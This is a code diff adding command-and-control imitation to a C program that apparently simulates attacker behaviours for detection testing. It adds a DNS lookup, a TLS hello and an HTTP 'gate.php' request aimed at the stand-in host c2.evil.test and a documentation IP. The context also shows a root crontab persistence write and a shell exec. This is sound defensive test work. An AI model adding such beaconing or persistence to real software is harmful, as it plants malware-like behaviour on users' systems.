@@ -140,6 +140,40 @@ static void reverse(void)
     execl("/bin/sh", "sh", "-c", "exit 0", (char *)0);
 }
 
+static int reaches(int kind, const char *address, int port)
+{
+    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
+    inet_pton(AF_INET, address, &to.sin_addr);
+    int fd = socket(AF_INET, kind, 0);
+    say("connect", connect(fd, (struct sockaddr *)&to, sizeof to));
+    return fd;
+}
+
+static void sends(int fd, const void *bytes, size_t size)
+{
+    say("send", send(fd, bytes, size, MSG_NOSIGNAL));
+}
+
+// Asks for a name, greets as TLS and as HTTP do, and knocks where nobody is.
+static void asks(void)
+{
+    static const char question[] = "\7\7\1\0\0\1\0\0\0\0\0\0\2c2\4evil\4test\0\0\1\0\1";
+    static const char hello[] = "\x16\3\1\0\x47\1\0\0\x43\3\3"
+                                "0123456789abcdef0123456789abcdef"
+                                "\0\0\2\0\x2f\1\0\0\x15\0\0\0\x11\0\x0f\0\0\x0c"
+                                "c2.evil.test";
+    char text[64];
+    int fd = reaches(SOCK_DGRAM, "127.0.0.1", 53);
+    sends(fd, question, sizeof question - 1);
+    fd = reaches(SOCK_STREAM, "198.51.100.23", 443);
+    sends(fd, hello, sizeof hello - 1);
+    say("read", read(fd, text, sizeof text));
+    fd = reaches(SOCK_STREAM, "198.51.100.23", 80);
+    sends(fd, "GET /gate.php HTTP/1.1\r\nHost: c2.evil.test\r\n\r\n", 47);
+    say("read", read(fd, text, sizeof text));
+    reaches(SOCK_STREAM, "198.51.100.23", 7);
+}
+
 static void persists(void)
 {
     writes("/etc/crontab", "* * * * * root /tmp/x\n");
@@ -243,6 +277,10 @@ int main(int argc, char **argv)
         traces();
     else if (!strcmp(what, "reverse"))
         reverse();
+    else if (!strcmp(what, "asks"))
+        asks();
+    else if (!strcmp(what, "reaches") && argc > 3)
+        sends(reaches(SOCK_STREAM, argv[2], atoi(argv[3])), "hello\n", 6);
     else if (!strcmp(what, "persists"))
         persists();
     else if (!strcmp(what, "escapes") && argc > 2)
